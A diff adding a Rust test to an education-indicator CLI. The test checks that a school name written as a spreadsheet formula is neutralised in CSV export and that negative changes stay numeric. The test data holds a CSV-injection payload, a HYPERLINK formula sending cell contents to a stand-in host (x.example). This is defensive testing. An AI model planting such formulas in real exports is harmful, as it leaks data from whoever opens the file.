@@ -372,3 +372,53 @@ fn a_wrong_custom_indicator_is_shown_where_it_is_wrong() {
     );
     assert_eq!(run.code, 1, "{}", run.stdout);
 }
+
+#[test]
+fn a_formula_like_school_name_is_neutralised_in_the_csv_and_negative_changes_stay_numbers() {
+    let (dir, db) = small_city().copy("formula");
+    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"y")"#;
+    let text = std::fs::read_to_string(small_city().dir.join("schools.csv")).unwrap();
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let name = headers.iter().position(|h| h == "学校名称").unwrap();
+    let mut row = reader.records().next().unwrap().unwrap();
+    row = row
+        .iter()
+        .enumerate()
+        .map(|(i, cell)| if i == name { formula } else { cell })
+        .collect();
+    let mut out = csv::Writer::from_writer(Vec::new());
+    out.write_record(&headers).unwrap();
+    out.write_record(&row).unwrap();
+    let file = dir.path().join("schools.csv");
+    std::fs::write(&file, out.into_inner().unwrap()).unwrap();
+    let import = edugov(&db, &["import", file.to_str().unwrap()]);
+    assert_eq!(import.code, 0, "{}", import.stderr);
+
+    let run = edugov(
+        &db,
+        &[
+            "indicators",
+            "--level",
+            "school",
+            "--year",
+            "all",
+            "--format",
+            "csv",
+        ],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let mut reader = csv::Reader::from_reader(run.stdout.trim_start_matches('\u{feff}').as_bytes());
+    let fields: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect();
+    assert!(fields.contains(&format!("'{formula}")), "the school's name");
+    assert!(!fields.iter().any(|f| f.starts_with('=')));
+    assert!(
+        fields
+            .iter()
+            .any(|f| f.starts_with('-') && f.parse::<f64>().is_ok()),
+        "a fall from last year is still a number"
+    );
+}
